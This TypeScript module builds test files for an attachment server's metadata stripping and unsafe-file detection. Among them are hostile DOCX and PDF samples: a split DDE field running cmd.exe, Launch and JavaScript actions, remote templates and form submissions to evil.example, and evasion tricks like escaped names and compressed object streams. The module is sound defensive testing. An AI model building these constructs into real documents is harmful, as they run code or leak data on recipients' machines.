import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

/**
 * Small files built in code for the attachment tests (server/attachments/, routes): structurally
 * valid, carrying the metadata the server must drop. No binary fixtures in the repository.
 */
const u16be = (n: number) => Buffer.from([n >> 8, n & 0xff]);
const segment = (marker: number, data: Buffer) => Buffer.concat([Buffer.from([0xff, marker]), u16be(data.length + 2), data]);
const ascii = (text: string) => Buffer.from(text, 'latin1');

/** EXIF (big-endian TIFF) with Orientation=6 and a Make string that stands in for GPS and serial numbers. */
export function exifApp1(orientation = 6): Buffer {
  const tiff = Buffer.alloc(8 + 2 + 2 * 12 + 4 + 16);
  tiff.write('MM\0\x2a', 0, 'latin1');
  tiff.writeUInt32BE(8, 4);
  tiff.writeUInt16BE(2, 8);
  tiff.writeUInt16BE(0x010f, 10); // Make, ASCII, 16 bytes at offset 38
  tiff.writeUInt16BE(2, 12);
  tiff.writeUInt32BE(16, 14);
  tiff.writeUInt32BE(38, 18);
  tiff.writeUInt16BE(0x0112, 22); // Orientation, SHORT
  tiff.writeUInt16BE(3, 24);
  tiff.writeUInt32BE(1, 26);
  tiff.writeUInt16BE(orientation, 30);
  tiff.write('GPS-SECRET-CAM\0\0', 38, 'latin1');
  return Buffer.concat([ascii('Exif\0\0'), tiff]);
}

export const jpegParts = {
  app0: segment(0xe0, ascii('JFIF\0\x01\x01\0\0\x01\0\x01\0\0')),
  exif: segment(0xe1, exifApp1()),
  xmp: segment(0xe1, ascii('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>GPS-SECRET-XMP</x:xmpmeta>')),
  iptc: segment(0xed, ascii('Photoshop 3.0\0GPS-SECRET-IPTC')),
  comment: segment(0xfe, ascii('GPS-SECRET-COMMENT')),
  icc: segment(0xe2, ascii('ICC_PROFILE\0\x01\x01fake-profile')),
  mpf: segment(0xe2, ascii('MPF\0GPS-SECRET-MPF')),
  dqt: segment(0xdb, Buffer.alloc(65, 1)),
  sof: segment(0xc0, Buffer.from([8, 0, 1, 0, 1, 1, 1, 0x11, 0])),
  dht: segment(0xc4, Buffer.concat([Buffer.from([0]), Buffer.alloc(16), Buffer.alloc(0)])),
  sos: segment(0xda, Buffer.from([1, 1, 0, 0, 0x3f, 0])),
  // Entropy-coded data with a stuffed 0xFF00 and a restart marker, which are not segment markers.
  scan: Buffer.from([0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56]),
};

const SOI = Buffer.from([0xff, 0xd8]);
const EOI = Buffer.from([0xff, 0xd9]);

/** A JPEG with EXIF, XMP, IPTC, a comment, an MPF block and an ICC profile; `trailer` goes after EOI. */
export function jpegWithMetadata(trailer = Buffer.alloc(0)): Buffer {
  const p = jpegParts;
  return Buffer.concat([SOI, p.app0, p.exif, p.xmp, p.iptc, p.comment, p.icc, p.mpf, p.dqt, p.sof, p.dht, p.sos, p.scan, EOI, trailer]);
}

/** What stripJpeg must make of it: APP0, the orientation alone, the ICC profile and the image. */
export function jpegStripped(orientationSegment: Buffer): Buffer {
  const p = jpegParts;
  return Buffer.concat([SOI, p.app0, orientationSegment, p.icc, p.dqt, p.sof, p.dht, p.sos, p.scan, EOI]);
}

const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([ascii(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
};

/** A real 1x1 PNG (one green pixel) with text, EXIF and time chunks, and an sRGB chunk that stays. */
export function pngWithMetadata(trailer = Buffer.alloc(0)) {
  const ihdr = chunk('IHDR', Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]));
  const srgb = chunk('sRGB', Buffer.from([0]));
  const idat = chunk('IDAT', deflateSync(Buffer.from([0, 0x15, 0x80, 0x3d])));
  const iend = chunk('IEND', Buffer.alloc(0));
  const meta = [
    chunk('tEXt', ascii('Author\0GPS-SECRET-TEXT')),
    chunk('zTXt', Buffer.concat([ascii('Comment\0\0'), deflateSync(ascii('GPS-SECRET-ZTXT'))])),
    chunk('iTXt', ascii('XML:com.adobe.xmp\0\0\0\0\0GPS-SECRET-ITXT')),
    chunk('eXIf', exifApp1().subarray(6)),
    chunk('tIME', Buffer.from([0x07, 0xea, 11, 23, 12, 0, 0])),
  ];
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return {
    file: Buffer.concat([signature, ihdr, srgb, ...meta, idat, iend, trailer]),
    stripped: Buffer.concat([signature, ihdr, srgb, idat, iend]),
  };
}

const riffChunk = (fourcc: string, data: Buffer) => {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  return Buffer.concat([ascii(fourcc), size, data, data.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
};
const riff = (chunks: Buffer[]) => {
  const body = Buffer.concat([ascii('WEBP'), ...chunks]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return Buffer.concat([ascii('RIFF'), size, body]);
};

/** An extended WebP (VP8X with the EXIF and XMP flags and ICC) around a lossless 1x1 image. */
export function webpWithMetadata() {
  const vp8x = (flags: number) => riffChunk('VP8X', Buffer.from([flags, 0, 0, 0, 0, 0, 0, 0, 0, 0]));
  const iccp = riffChunk('ICCP', ascii('fake-profile'));
  const vp8l = riffChunk('VP8L', Buffer.from([0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0]));
  const exif = riffChunk('EXIF', exifApp1().subarray(6));
  const xmp = riffChunk('XMP ', ascii('<x:xmpmeta>GPS-SECRET-XMP</x:xmpmeta>'));
  return { file: riff([vp8x(0x20 | 0x08 | 0x04), iccp, vp8l, exif, xmp]), stripped: riff([vp8x(0x20), iccp, vp8l]) };
}

/** A small PDF; `extra` (text that makes files differ) goes in a comment before the trailer, not after the end. */
export const pdfFile = (extra = '') =>
  ascii(
    `%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n${extra ? `% ${extra.replace(/[\r\n]+/g, ' ')}\n` : ''}trailer<</Root 1 0 R>>\n%%EOF\n`,
  );

/** A ZIP of `entries` (stored, or deflated when `deflate`), optionally declaring other sizes. */
export function zipOf(entries: { name: string; data: Buffer; deflate?: boolean; declaredSize?: number }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const stored = e.deflate ? deflateRawSync(e.data) : e.data;
    const name = Buffer.from(e.name, 'utf8');
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(e.deflate ? 8 : 0, 8);
    head.writeUInt32LE(crc32(e.data), 14);
    head.writeUInt32LE(stored.length, 18);
    head.writeUInt32LE(e.declaredSize ?? e.data.length, 22);
    head.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    head.copy(central, 8, 6, 30); // flags .. name length share one layout
    central.writeUInt32LE(offset, 42);
    locals.push(head, name, stored);
    centrals.push(central, name);
    offset += head.length + name.length + stored.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const contentTypes = ascii(
  '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);

const documentXml = (body = '<w:p><w:r><w:t>Resume</w:t></w:r></w:p>') =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...items: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;

/**
 * A DOCX; `parts` are added to (or replace) the two every Word document has, `types` replaces its
 * [Content_Types].xml. With a web link in its relationships, as a resume has (a LinkedIn profile).
 */
export function docxFile({ parts = [], types }: { parts?: { name: string; data: string | Buffer }[]; types?: string } = {}): Buffer {
  const base = [
    { name: '[Content_Types].xml', data: types ?? contentTypes },
    { name: 'word/document.xml', data: ascii(documentXml()) },
    {
      name: 'word/_rels/document.xml.rels',
      data: rels(`<Relationship Id="rId9" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/jane" TargetMode="External"/>`),
    },
  ];
  const all = [...base.filter((b) => !parts.some((p) => p.name === b.name)), ...parts];
  return zipOf(all.map((p) => ({ name: p.name, data: typeof p.data === 'string' ? Buffer.from(p.data) : p.data, deflate: true })));
}

/** DOCX files an office PC would run something from, one per way (docs/decisions/021-file-safety.md). */
export const hostileDocx = {
  macros: () =>
    docxFile({
      types:
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      parts: [{ name: 'word/vbaProject.bin', data: cfbFile('PROJECT') }],
    }),
  macroEnabledType: () =>
    docxFile({
      types:
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
  remoteTemplate: () =>
    docxFile({
      parts: [
        { name: 'word/settings.xml', data: '<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>' },
        {
          name: 'word/_rels/settings.xml.rels',
          data: rels(`<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`),
        },
      ],
    }),
  externalImage: () =>
    docxFile({
      parts: [
        {
          name: 'word/_rels/document.xml.rels',
          data: rels(`<Relationship Id="rId5" Type="${REL}/image" Target="\\\\evil.example\\share\\a.png" TargetMode="External"/>`),
        },
      ],
    }),
  fileHyperlink: () =>
    docxFile({
      parts: [
        {
          name: 'word/_rels/document.xml.rels',
          data: rels(
            `<Relationship Id="rId5" Type="${REL}/hyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>`,
          ),
        },
      ],
    }),
  altChunk: () =>
    docxFile({
      parts: [
        { name: 'word/afchunk.mht', data: 'MIME-Version: 1.0\r\n\r\n<html><script>x</script></html>' },
        { name: 'word/_rels/document.xml.rels', data: rels(`<Relationship Id="rId7" Type="${REL}/aFChunk" Target="afchunk.mht"/>`) },
      ],
    }),
  embeddedObject: () => docxFile({ parts: [{ name: 'word/embeddings/oleObject1.bin', data: cfbFile('\u0001Ole10Native') }] }),
  // A DDE field split over two runs, as real attacks do to slip past a plain search.
  dde: () =>
    docxFile({
      parts: [
        {
          name: 'word/document.xml',
          data: documentXml(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>' +
              '<w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
          ),
        },
      ],
    }),
  remoteInclude: () =>
    docxFile({
      parts: [
        {
          name: 'word/header1.xml',
          data: '<w:hdr><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d "/></w:hdr>',
        },
      ],
    }),
};

/**
 * A minimal OLE2 compound file: a FAT sector and a directory with the root and one stream, and
 * up to two more entries (e.g. a "Macros" storage, type 1, or an "\u0001Ole10Native" stream, type 2).
 */
export function cfbFile(streamName = 'WordDocument', extra: { name: string; type: 1 | 2 }[] = []): Buffer {
  const file = Buffer.alloc(512 * 3, 0);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file);
  file.writeUInt16LE(0x3e, 0x18);
  file.writeUInt16LE(3, 0x1a);
  file.writeUInt16LE(0xfffe, 0x1c);
  file.writeUInt16LE(9, 0x1e);
  file.writeUInt16LE(6, 0x20);
  file.writeUInt32LE(1, 0x2c); // one FAT sector
  file.writeUInt32LE(1, 0x30); // the directory starts at sector 1
  file.writeUInt32LE(0x1000, 0x38);
  file.writeUInt32LE(0xfffffffe, 0x3c);
  file.writeUInt32LE(0xfffffffe, 0x44);
  for (let i = 0; i < 109; i++) file.writeUInt32LE(i === 0 ? 0 : 0xffffffff, 0x4c + i * 4);
  const fat = 512;
  for (let i = 0; i < 128; i++) file.writeUInt32LE(0xffffffff, fat + i * 4);
  file.writeUInt32LE(0xfffffffd, fat); // sector 0 is the FAT itself
  file.writeUInt32LE(0xfffffffe, fat + 4); // the directory is one sector long
  const entry = (index: number, name: string, type: number) => {
    const at = 1024 + index * 128;
    file.write(name, at, 'utf16le');
    file.writeUInt16LE((name.length + 1) * 2, at + 64);
    file[at + 66] = type;
  };
  entry(0, 'Root Entry', 5);
  entry(1, streamName, 2);
  extra.slice(0, 2).forEach((e, i) => entry(2 + i, e.name, e.type));
  return file;
}

/** A PDF from its parts (objects as text), with a cross-reference-free trailer; readers rebuild the table. */
const pdfOf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    ascii('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'),
    ...objects.map((o) => (typeof o === 'string' ? ascii(`${o}\n`) : o)),
    ascii('trailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);

/** An object stream (PDF 1.5+): objects packed and deflated, where a plain search of the file sees nothing. */
function objectStream(number: number, objects: string): Buffer {
  const packed = deflateSync(ascii(objects));
  return Buffer.concat([
    ascii(`${number} 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
    packed,
    ascii('\nendstream\nendobj\n'),
  ]);
}

/** PDFs an office PC would run something from, one per way, and ones that look alike but are fine. */
export const hostilePdf = {
  javascript: () => pdfOf('1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj', '3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'),
  // /J#61vaScript is /JavaScript; /J#53 is /JS.
  escapedNames: () =>
    pdfOf(
      '1 0 obj<</Type/Catalog/Names<</J#61vaScript 4 0 R>>>>endobj',
      '4 0 obj<</Names[(x)5 0 R]>>endobj',
      '5 0 obj<</S/J#61vaScript/J#53(this.print())>>endobj',
    ),
  launch: () => pdfOf('1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)/P(/c calc)>>>>endobj'),
  pageOpenAction: () =>
    pdfOf('1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj', '3 0 obj<</Type/Page/AA<</O<</S/URI/URI(https://evil.example)>>>>>>endobj'),
  embeddedFile: () =>
    pdfOf(
      '1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 6 0 R>>>>endobj',
      Buffer.concat([ascii('7 0 obj<</Type/EmbeddedFile/Length 4>>stream\n'), ascii('MZ\x90\0'), ascii('\nendstream\nendobj\n')]),
    ),
  submitForm: () =>
    pdfOf(
      '1 0 obj<</Type/Catalog/AcroForm<</Fields[8 0 R]>>>>endobj',
      '8 0 obj<</FT/Btn/A<</S/SubmitForm/F(https://evil.example/collect)>>>>endobj',
    ),
  // The catalog and its action inside a compressed object stream: only inflating finds them.
  packedJavascript: () =>
    pdfOf(objectStream(9, '1 0 <</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("https://evil.example"))>>>>')),
  // An object stream that is not deflate at all, as an encrypted PDF's are: it cannot be checked.
  unreadableObjects: () =>
    pdfOf(
      Buffer.concat([
        ascii('9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 64>>stream\n'),
        Buffer.alloc(64, 0xa7),
        ascii('\nendstream\nendobj\n'),
      ]),
    ),
  // A page glued after the end: a PDF/HTML polyglot.
  htmlAfterEnd: () => Buffer.concat([pdfFile(), ascii('<html><script>alert(1)</script></html>')]),
};

/** PDFs that resemble the hostile ones and are what bills and scans really are: taken. */
export const harmlessPdf = {
  // "Open at page 1, fit to the window": a destination, not an action.
  openAtPage: () => pdfOf('1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>endobj'),
  // A link the reader clicks, as every bill has.
  webLink: () =>
    pdfOf('1 0 obj<</Type/Catalog>>endobj', '4 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.pge.com/pay)>>>>endobj'),
  // A compressed page whose bytes happen to hold "/JS " and "/AA ": stream data is never a dictionary.
  binaryLookalike: () =>
    pdfOf(
      '1 0 obj<</Type/Catalog>>endobj',
      Buffer.concat([
        ascii('5 0 obj<</Length 40>>stream\n'),
        ascii('\x8f\x02/JS \x01\xff/AA \x00\x13/Launch \x9c'),
        ascii('\nendstream\nendobj\n'),
      ]),
    ),
  // Objects packed in a stream, harmless ones: read and taken.
  packedPlain: () => pdfOf(objectStream(9, '1 0 <</Type/Catalog/Pages 2 0 R>>')),
};

const u16 = (n: number) => Buffer.from([n >> 8, n & 0xff]);
const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
};
const bmffBox = (type: string, ...parts: Buffer[]) => {
  const body = Buffer.concat(parts);
  return Buffer.concat([u32(8 + body.length), ascii(type), body]);
};
const fullBox = (type: string, version: number, ...parts: Buffer[]) => bmffBox(type, Buffer.from([version, 0, 0, 0]), ...parts);

/**
 * A HEIC as a phone writes its structure (ftyp, meta with hdlr/pitm/iinf/iloc, mdat): the image
 * item, an Exif item carrying the stand-in for GPS, and an XMP (mime) item. `image` is the coded
 * picture's bytes, which must come out untouched; `trailer` goes after the last box.
 */
export function heicWithMetadata({ trailer = Buffer.alloc(0), topBoxes = [] as Buffer[] } = {}) {
  const image = ascii('HEVC-CODED-PICTURE-'.repeat(8));
  const exif = Buffer.concat([u32(6), ascii('Exif\0\0'), exifApp1().subarray(6)]);
  const xmp = ascii('<x:xmpmeta><rdf:Description exif:GPSLatitude="GPS-SECRET-XMP"/></x:xmpmeta>');
  const ftyp = bmffBox('ftyp', ascii('heic'), u32(0), ascii('mif1'), ascii('heic'));
  const infe = (id: number, type: string, extra = Buffer.alloc(0)) =>
    fullBox('infe', 2, u16(id), u16(0), ascii(type), Buffer.from([0]), extra);
  const meta = (offsets: number[]) =>
    fullBox(
      'meta',
      0,
      fullBox('hdlr', 0, u32(0), ascii('pict'), Buffer.alloc(12), Buffer.from([0])),
      fullBox('pitm', 0, u16(1)),
      fullBox(
        'iinf',
        0,
        u16(3),
        infe(1, 'hvc1'),
        infe(2, 'Exif'),
        infe(3, 'mime', Buffer.concat([ascii('application/rdf+xml'), Buffer.from([0])])),
      ),
      fullBox(
        'iloc',
        0,
        u16(0x4400), // 4-byte offsets and lengths, no base offset
        u16(3),
        ...[image, exif, xmp].map((part, i) => Buffer.concat([u16(i + 1), u16(0), u16(1), u32(offsets[i]!), u32(part.length)])),
      ),
    );
  const metaLength = meta([0, 0, 0]).length;
  const mdatStart = ftyp.length + metaLength + topBoxes.reduce((n, b) => n + b.length, 0) + 8;
  const offsets = [mdatStart, mdatStart + image.length, mdatStart + image.length + exif.length];
  const file = Buffer.concat([ftyp, meta(offsets), ...topBoxes, bmffBox('mdat', image, exif, xmp), trailer]);
  return { file, image, imageAt: mdatStart };
}

/** A box as a test wants to add one at the top level (a movie box, a vendor uuid box). */
export const topLevelBox = (type: string, body: Buffer) => bmffBox(type, body);
